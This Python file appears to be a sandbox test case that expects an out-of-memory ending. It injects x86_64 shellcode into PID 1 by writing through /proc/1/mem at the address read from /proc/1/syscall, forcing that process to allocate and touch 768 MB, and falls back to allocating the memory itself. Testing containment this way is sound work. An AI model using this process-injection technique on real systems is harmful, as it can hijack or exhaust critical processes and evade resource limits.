# about: puts a program that fills memory into the process that waits for it, where it can be reached, or else into itself
# ending: out_of_memory
# limits: wall_seconds=10
# none: the first process is the machine's own there

import os
import struct
import time

SIZE = struct.pack("<I", 768 * 1024**2)
FILL = (  # x86_64: mmap, touch every page, pause for ever
    b"\xb8\x09\0\0\0\x31\xff\xbe" + SIZE + b"\xba\x03\0\0\0\x41\xba\x22\0\0\0\x49\xc7\xc0\xff\xff\xff\xff\x45\x31\xc9"
    b"\x0f\x05\x48\x8d\x88"
    + SIZE
    + b"\xc6\x00\x01\x48\x05\x00\x10\0\0\x48\x39\xc8\x72\xf2\xb8\x22\0\0\0\x0f\x05\xeb\xf7"
)

try:
    with open("/proc/1/syscall") as doing:
        at = int(doing.read().split()[-1], 16)
    memory = os.open("/proc/1/mem", os.O_RDWR)
    if os.uname().machine != "x86_64":
        raise PermissionError
    os.pwrite(memory, FILL, at)
    if os.fork() == 0:  # an orphan, to wake it up
        if os.fork() == 0:
            time.sleep(0.1)
        os._exit(0)
    time.sleep(60)
except OSError:
    kept = bytearray(768 * 1024**2)
    kept[::4096] = b"x" * len(kept[::4096])
    time.sleep(60)
